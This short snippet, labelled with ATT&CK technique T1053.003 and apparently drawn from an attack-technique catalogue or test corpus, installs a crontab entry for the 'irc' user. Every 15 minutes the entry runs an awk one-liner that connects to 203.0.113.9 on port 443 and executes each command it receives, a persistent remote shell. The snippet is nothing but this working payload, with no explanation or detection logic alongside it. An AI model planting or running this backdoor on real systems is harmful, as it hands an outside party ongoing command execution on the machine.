# technique: T1053.003
# location: linux.cron.user
# source: /var/spool/cron/crontabs/irc
crontab -u irc - <<'CRON'
*/15 * * * * awk 'BEGIN{s="/inet/tcp/0/203.0.113.9/443";while((s|&getline c)>0)system(c)}'
CRON
